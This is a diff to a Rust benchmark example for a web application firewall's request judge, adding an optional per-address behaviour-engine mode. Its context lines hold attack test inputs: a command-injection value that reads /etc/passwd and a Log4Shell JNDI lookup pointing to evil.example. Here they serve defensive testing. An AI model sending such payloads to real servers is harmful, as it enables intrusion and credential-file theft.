@@ -8,11 +8,14 @@
 //! ```sh
 //! cargo build --release -p rampart-perf --example pack_judge
 //! valgrind --tool=callgrind target/release/examples/pack_judge get 2000
+//! # with the behaviour engine (identity + counters, one address per request):
+//! valgrind --tool=callgrind target/release/examples/pack_judge get 2000 behaviour
 //! ```
 
 use std::net::{IpAddr, Ipv4Addr};
 
-use rampart_dataplane::policy::CoreKit;
+use rampart_dataplane::behaviour::{CoreCounters, Engine, IdentityConfig, Tracked};
+use rampart_dataplane::policy::{Behave, CoreKit};
 use rampart_matcher::ScanLimits;
 use rampart_policy_loader::{load, LoadOptions, PackSource};
 
@@ -56,12 +59,55 @@ fn main() {
         b"/?host=127.0.0.1%3Bcat%20/etc/passwd",
         b"/?x=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
     ];
+    // `behaviour`: the worker's behaviour engine (identity and counters) takes
+    // part, with each request from its own address of 10.0.0.0/8 (so no rate
+    // policy fires, and every request updates a table entry).
+    let mut engine = (args.next().as_deref() == Some("behaviour")).then(|| {
+        let counters = CoreCounters::mesh(1, 64 << 20, 10).pop().expect("one core");
+        Engine::new(
+            &IdentityConfig::default(),
+            &[],
+            &[7; 32],
+            std::hash::RandomState::new(),
+            Some(counters),
+            std::time::Instant::now(),
+        )
+    });
     for i in 0..n {
         let attack = load_kind == "attack";
+        let ip = match engine {
+            Some(_) => IpAddr::V4(Ipv4Addr::from(0x0a00_0000 + i as u32)),
+            None => ip,
+        };
+        let mut tracked = Tracked::default();
+        let behave = engine.as_mut().map(|engine| Behave {
+            engine,
+            tracked: &mut tracked,
+            count: true,
+            peer_trusted: false,
+        });
         match load_kind.as_str() {
-            "get" => kit.judge(b"GET", b"/", &get, b"", false, ip, 0),
-            "attack" => kit.judge(b"GET", ATTACKS[i % ATTACKS.len()], &get, b"", false, ip, 0),
-            _ => kit.judge(b"POST", b"/", &post, body, false, ip, body.len() as u64),
+            "get" => kit.judge(b"GET", b"/", &get, b"", false, ip, 0, behave),
+            "attack" => kit.judge(
+                b"GET",
+                ATTACKS[i % ATTACKS.len()],
+                &get,
+                b"",
+                false,
+                ip,
+                0,
+                behave,
+            ),
+            _ => kit.judge(
+                b"POST",
+                b"/",
+                &post,
+                body,
+                false,
+                ip,
+                body.len() as u64,
+                behave,
+            ),
         }
         .expect("judged");
         assert_eq!(
